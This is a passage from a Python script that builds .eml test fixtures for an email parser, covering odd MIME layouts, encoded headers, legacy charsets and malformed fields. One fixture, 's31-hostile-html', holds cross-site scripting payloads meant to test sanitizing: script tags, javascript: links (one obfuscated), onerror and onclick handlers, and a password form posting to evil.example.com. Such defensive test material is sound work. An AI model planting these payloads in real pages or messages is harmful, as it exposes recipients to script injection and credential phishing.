    'Content-Type: text/plain; charset=utf-8\n\nAfter the photo.\n'])
add('s27-pgp-inline-signed', HDR + 'Subject: inline PGP\n\n-----BEGIN PGP SIGNED MESSAGE-----\n'
    'Hash: SHA256\n\nSigned inline.\n-----BEGIN PGP SIGNATURE-----\n\niQEz\n=abcd\n-----END PGP SIGNATURE-----\n')
_inner_mp = ('--ip\nContent-Type: text/plain\n\nInside a base64 multipart.\n--ip--\n').encode()
add('s28-encoded-multipart', HDR + 'Subject: transfer-encoded multipart\nMIME-Version: 1.0\n'
    'Content-Type: multipart/mixed; boundary=ip\nContent-Transfer-Encoding: base64\n\n' + b64(_inner_mp) + '\n')
add('s29-html-only-cjk', (HDR + 'Subject: %s\nMIME-Version: 1.0\nContent-Type: text/html\n\n' % ew('网页邮件', 'gbk')
    + '<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"></head>'
    '<body><p>').encode() + '网页格式的邮件，字符集在 meta 标签里。'.encode('gbk') + b'</p></body></html>\n')
add('s30-related-start-param', HDR + 'Subject: related with start\nMIME-Version: 1.0\n'
    'Content-Type: multipart/related; boundary=rs; start="<root@example.org>"\n\n'
    '--rs\nContent-Type: image/png\nContent-ID: <pic@example.org>\nContent-Transfer-Encoding: base64\n\n'
    + b64(PNG) + '\n--rs\nContent-Type: text/html; charset=utf-8\nContent-ID: <root@example.org>\n\n'
    '<p>Root is second.</p><img src="cid:pic@example.org">\n--rs--\n')
add('s31-hostile-html', HDR + 'Subject: hostile HTML\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n'
    '<p onclick="steal()">Hello</p><script>alert(1)</script><iframe src="https://evil.example.com/"></iframe>'
    '<a href="javascript:alert(2)">click</a><a href=" jav&#x09;ascript:alert(3)">tab</a>'
    '<form action="https://evil.example.com/"><input name=pw type=password><button>Go</button></form>'
    '<object data="x.swf"></object><embed src="y.swf"><svg><script>alert(4)</script></svg>'
    '<img src=x onerror=alert(5)><p style="width: expression(alert(6))">styled</p>\n')
add('s32-alternative-with-attachment-tail', HDR + 'Subject: alternative then mixed\nMIME-Version: 1.0\n'
    'Content-Type: multipart/mixed; boundary=mx\n\n--mx\nContent-Type: multipart/alternative; boundary=al\n\n'
    '--al\n' + PLAIN + '--al\n' + HTML + '--al--\n--mx\nContent-Type: text/csv; name=data.csv\n'
    'Content-Disposition: attachment; filename=data.csv\n\na,b\n1,2\n--mx--\n')

# --- More malformed forms real mailers produce ------------------------------------------------
add('ew11-folded-inside-word', HDR + 'Subject: =?utf-8?B?5L2g\n 5aW9?= (folded inside one word)\n\n'
    'A sender folded the header in the middle of an encoded word.\n')
add('ew12-glued-words', HDR + 'Subject: =?utf-8?B?5L2g?==?utf-8?B?5aW9?=\n\nTwo words with no blank between.\n')
add('h09-header-name-case', 'FROM: Shouting <loud@example.org>\nto: quiet@example.net\n'
    'SUBJECT: Header names in any case\nDATE: Mon, 15 Jan 2024 09:30:00 +0000\n'
    'content-type: TEXT/PLAIN; CHARSET=UTF-8\n\nCase does not matter in field names.\n')
add('a06-empty-and-odd-fields', 'From:\nTo: ,,,\nCc: "Only a name"\nSubject: Empty address fields\n'
    'Date: Mon, 15 Jan 2024 09:30:00 +0000\n\nNothing to parse in the address fields.\n')
mixed('s33-tnef-attachment', 'Outlook attachment', [TEXT_PART,
      'Content-Type: application/ms-tnef; name="winmail.dat"\nContent-Transfer-Encoding: base64\n'
      'Content-Disposition: attachment; filename="winmail.dat"\n\n' + b64(b'\x78\x9f\x3e\x22 tnef')])
add('s34-empty-boundary', HDR + 'Subject: empty boundary parameter\nMIME-Version: 1.0\n'
    'Content-Type: multipart/mixed; boundary=""\n\n--sep\nContent-Type: text/plain\n\nFirst.\n'
    '--sep\nContent-Type: text/plain\n\nSecond.\n--sep--\n')
add('s35-html-entities-layout', HDR + 'Subject: HTML layout\nMIME-Version: 1.0\n'
    'Content-Type: text/html; charset=iso-8859-1\nContent-Transfer-Encoding: quoted-printable\n\n'
    '<html><body bgcolor=3D"#ffffff"><table><tr><td>Caf=E9&nbsp;&amp;&nbsp;th=E9</td>'
    '<td>&#8364;5 &lt;tax&gt;</td></tr></table><p>Line one<br>Line two</p>'
    '<ul><li>First</li><li>Second</li></ul></body></html>\n')
simple('c34-us-ascii-label-utf8-bytes', 'Label says US-ASCII', 'Résumé attached — ünïcode.\n'.encode(), 'us-ascii')
mixed('s36-named-inline-text', 'A log file shown inline', [TEXT_PART,
      'Content-Type: text/plain; charset=utf-8; name="build.log"\n\nstep 1 ok\nstep 2 failed\n'])
simple('c35-no-charset-koi8-r', 'No charset, KOI8-R bytes',
       'Письмо без указания кодировки, написанное в KOI8-R. Всего хорошего!\n'.encode('koi8-r'), None)
simple('c36-no-charset-windows-1251', 'No charset, Windows-1251 bytes',
       'Письмо без указания кодировки, написанное в Windows-1251. До встречи!\n'.encode('cp1251'), None)
# What a broken server can deliver: no bytes at all.
add('s37-empty-message', '')

for name, data in MESSAGES.items():
    if data is None:
        continue
    with open(os.path.join(HERE, name + '.eml'), 'wb') as f:
        f.write(data)
print(len(MESSAGES), 'messages')
